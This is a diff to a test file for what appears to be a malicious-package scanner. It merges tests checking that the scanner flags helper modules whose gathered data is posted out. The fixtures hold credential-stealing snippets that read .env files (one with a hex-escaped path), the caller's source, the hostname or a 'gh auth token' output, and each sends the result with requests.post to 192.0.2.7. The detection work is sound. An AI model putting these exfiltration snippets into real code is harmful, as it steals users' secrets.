@@ -1206,36 +1206,20 @@ def test_benign_loop_over_ordinary_variable_names_reads_no_credential() -> None:
 @pytest.mark.parametrize(
     "helper",
     [
-        'import os\ndef load(d):\n    with open(f"{d}{os.sep}.env") as f:\n        return f.read()\n',
-        'def load(d):\n    with open("\\x2fsrv\\x2fapp\\x2f.env") as f:\n        return f.read()\n',
-    ],
-    ids=["f-string", "escaped"],
-)
-def test_exfil_flow_of_a_dotenv_file_a_helper_reads(tmp_path: Path, helper: str) -> None:
-    # the helper's only source word is `.env` inside a string piece: it must still be summarised
-    init = (
-        "import requests\nfrom ._cfg import load\n"
-        "requests.post('https://192.0.2.7/t', data=load('/srv/app'))\n"
-    )
-    verdict, findings = scan_package(
-        tmp_path, {f"{DEFAULT_NAME}/__init__.py": init, f"{DEFAULT_NAME}/_cfg.py": helper}
-    )
-    assert verdict is Verdict.MALICIOUS and any(f.startswith("exfil-flow") for f in findings), findings
-
-
-@pytest.mark.parametrize(
-    "helper",
-    [
+        'import os\ndef grab(d="/srv/app"):\n'
+        '    with open(f"{d}{os.sep}.env") as f:\n        return f.read()\n',
+        'def grab():\n    with open("\\x2fsrv\\x2fapp\\x2f.env") as f:\n        return f.read()\n',
         "import inspect\n\ndef grab():\n    f = inspect.currentframe().f_back\n"
         "    return open(f.f_code.co_filename).read()\n",
         "import socket\n\ndef grab():\n    return socket.getfqdn()\n",
         "import subprocess\n\ndef grab():\n"
         "    return subprocess.check_output(['gh', 'auth', 'token']).decode()\n",
     ],
-    ids=["caller-source", "identity", "credential-command"],
+    ids=["dotenv-f-string", "dotenv-escaped", "caller-source", "identity", "credential-command"],
 )
 def test_exfil_flow_of_what_a_helper_module_gathers(tmp_path: Path, helper: str) -> None:
     # the helper module's only source is one the source hint must name for it to be summarised
+    # (the flow analysis reads each string piece alone: a .env path needs no quote before it)
     init = "import requests\nfrom ._probe import grab\nrequests.post('https://192.0.2.7/c', data=grab())\n"
     verdict, findings = scan_package(
         tmp_path, {f"{DEFAULT_NAME}/__init__.py": init, f"{DEFAULT_NAME}/_probe.py": helper}
